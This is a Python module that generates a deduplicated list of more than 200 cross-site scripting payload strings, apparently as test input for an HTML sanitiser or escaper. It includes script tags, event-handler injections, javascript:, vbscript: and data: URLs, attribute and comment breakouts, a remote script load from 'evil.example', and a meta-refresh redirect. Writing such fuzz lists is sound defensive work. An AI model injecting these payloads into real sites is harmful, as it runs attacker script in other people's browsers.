"""Over 200 texts that try to become more than text in a page."""

from itertools import product

TAGS = (
    *(
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "iframe",
        "object",
    ),
    *(
        "marquee",
        "details open",
        "select autofocus",
        "textarea autofocus",
        "a href=#",
        "div",
        "math",
    ),
    *("embed src=x", "svg><animate", "svg><set", "img/src=x/", "x tabindex=1"),
)
HANDLERS = (
    "onerror=alert(1)",
    "onload='alert(1)'",
    "onfocus=&#97;lert(1)",
    'OnMouseOver="alert`1`"',
)
BEFORE = ("", '">', "'>", "</li></ol>", "-->", "]]>", "</title>", "&lt;", "\\")
SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
    ),
    *("vbscript:msgbox(1)", "data:text/html,<img src=x onerror=alert(1)>", "//evil.example/x.js"),
    *("https://example.org/?a=<svg/onload=alert(1)>", "https://example.org/&quot;onclick=alert(1)"),
)
BY_HAND = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/'onmouseover=alert(1)//",
    "http://example.org/<script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<base href=//example.org>",
    "<form action=javascript:alert(1)><button>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "</li></ol><h1>hubbub</h1>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "${alert(1)} {{alert(1)}} <%= alert(1) %>",
    "data:text/html,<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "__proto__ constructor",
]

AROUND = (
    "{}",
    "<a href='{}'>x</a>",
    "[x]({})",
    "<{}>",
    "<meta http-equiv=refresh content='0;url={}'>",
)
ELEMENTS = ("SCRIPT", "style", "noscript", "xmp", "plaintext", "title", "textarea")

EVIL = list(
    dict.fromkeys(
        [
            *BY_HAND,
            *(
                f"{BEFORE[n % len(BEFORE)]}<{tag} {handler}>"
                for n, (handler, tag, _) in enumerate(product(HANDLERS, TAGS, range(2)))
            ),
            *(f"{before}<script>alert(1)</script>" for before in BEFORE),
            *(around.format(scheme) for around, scheme in product(AROUND, SCHEMES)),
            *(f"<{name}>alert(1)</{name}>" for name in ELEMENTS),
        ]
    )
)
